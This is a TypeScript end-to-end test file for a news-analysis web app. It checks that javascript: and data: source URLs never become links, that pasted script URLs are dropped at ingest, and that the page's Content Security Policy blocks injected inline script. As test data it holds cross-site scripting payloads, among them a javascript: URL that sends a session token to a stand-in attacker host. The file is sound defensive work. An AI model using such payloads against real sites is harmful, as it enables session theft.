import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { IsoDate } from '../../src/core/time.js';
import { finishArticle, type Article } from '../../src/ingest/article.js';
import { kyselyArticleStore } from '../../src/store/articles/kysely-article-store.js';
import { closeStage, openStage, pageProblems, type Stage } from '../e2e/harness.js';

/**
 * In real Chromium (npm run build:web first): an article's source URL becomes a link only when it is a web
 * address, even for rows stored before the ingest checked it, and the page runs no inline script.
 */
let s: Stage;
before(async () => {
  s = await openStage();
});
after(() => closeStage(s));

/** Stores an article with whatever URL, as rows from before the ingest refused non-web URLs could have. */
async function storedWithUrl(text: string, url: string): Promise<string> {
  const base = finishArticle(
    { format: 'text', origin: 'old.txt', text, title: `Stored with ${url.slice(0, 12)}`, published: '2012-05-15' as IsoDate },
    '2012-05-15' as IsoDate,
  );
  const article: Article = { ...base, url };
  const analysis = await s.app.news.analyze(article);
  await kyselyArticleStore(s.app.stores.db).save(article, { ...analysis, article: { ...analysis.article, url } }, new Date().toISOString());
  return article.id;
}

test('javascript: and data: source URLs never become links; an https one does, opening apart', async () => {
  const { page } = s;
  const evil = await storedWithUrl('Russia urged Ukraine to ratify the free trade treaty on Tuesday.', 'javascript:alert(document.domain)');
  const data = await storedWithUrl('Belarus met Kazakhstan in Minsk on Tuesday to discuss the customs union.', 'data:text/html,<script>alert(1)</script>');
  const good = await storedWithUrl('Armenia asked the CSTO for help on Tuesday, its foreign ministry said.', 'https://example.org/news/armenia');
  await page.goto(`${s.url}/#/articles`);
  for (const id of [evil, data]) {
    await page.click(`#stored-articles button[data-id="${id}"]`);
    await page.waitForSelector('#article-title');
    await page.waitForSelector('text=source (not a web address)');
    assert.equal(await page.locator('#article-result a[href^="javascript:"], #article-result a[href^="data:"]').count(), 0, id);
  }
  await page.click(`#stored-articles button[data-id="${good}"]`);
  await page.waitForSelector('#article-result a:has-text("source")');
  const link = page.locator('#article-result a:has-text("source")');
  assert.equal(await link.getAttribute('href'), 'https://example.org/news/armenia');
  assert.match((await link.getAttribute('rel')) ?? '', /noopener/);
  assert.deepEqual(pageProblems(page), []);
});

test('a pasted javascript: URL is dropped at ingest, said in the warnings, and shown as no link', async () => {
  const { page } = s;
  await page.goto(`${s.url}/#/articles`);
  await page.fill('#article-text-input', 'Moscow urged Kiev on Tuesday to ratify the free trade agreement it signed last year.');
  await page.click('summary:has-text("Title, date and URL")');
  await page.fill('#article-url-input', 'javascript:fetch("//attacker.example/?t="+sessionStorage.getItem("entente-token"))');
  await page.check('#dry-run');
  await page.click('#ingest');
  await page.waitForSelector('#article-result .notes li:has-text("source URL dropped")');
  assert.equal(await page.locator('#article-result a[href^="javascript:"]').count(), 0);
});

test('every view runs within the security policy, which blocks an injected inline script', async () => {
  // A page of its own that enforces the CSP (the shared one bypasses it for Playwright's string predicates).
  const page = await s.browser.newPage({ viewport: { width: 1366, height: 768 } });
  const problems: string[] = [];
  page.on('pageerror', (e) => problems.push(e.message));
  page.on('console', (m) => {
    if (m.type() === 'error' && !/Failed to load resource/.test(m.text())) problems.push(m.text());
  });
  try {
    const response = await page.goto(`${s.url}/?headers=1#/system?on=2012-05-15`);
    const headers = response!.headers();
    assert.match(headers['content-security-policy'] ?? '', /script-src 'self'/);
    assert.equal(headers['x-frame-options'], 'DENY');
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.equal(headers['referrer-policy'], 'no-referrer');
    await page.waitForSelector('#graph canvas');
    for (const view of ['whatif', 'timeline', 'articles']) {
      await page.click(`nav a[data-view="${view}"]`);
      await page.waitForSelector('main h2');
    }
    assert.deepEqual(problems, [], 'the app itself runs within its policy');
    await page.evaluate(`(() => { const el = document.createElement('script'); el.textContent = 'window.__inline = 1'; document.head.appendChild(el); })()`);
    assert.equal(await page.evaluate('window.__inline'), undefined, 'an injected inline script does not run');
    assert.ok(
      problems.some((p) => /Content Security Policy/.test(p)),
      'and the browser says why',
    );
  } finally {
    await page.close();
  }
});
